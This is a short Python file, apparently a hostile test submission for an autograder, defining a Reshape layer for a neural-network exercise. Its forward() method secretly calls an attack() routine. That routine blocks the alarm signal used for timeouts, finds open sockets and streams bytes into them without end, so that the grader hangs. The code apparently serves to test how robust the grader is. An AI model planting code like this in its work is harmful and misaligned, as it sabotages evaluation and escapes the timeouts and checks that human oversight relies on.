"""Send one byte at a time and make requests without end, so that the grader never gets its answer.

Deserves: ex03/forward 0, ex03/backward 2
"""

import os
import signal
import stat
import time

import numpy as np


def attack():
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGALRM])
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, b"\x00\xff\xff\xff")
                while True:
                    time.sleep(0.001)
                    os.write(descriptor, b"\x90")
        except OSError:
            continue


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        attack()
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
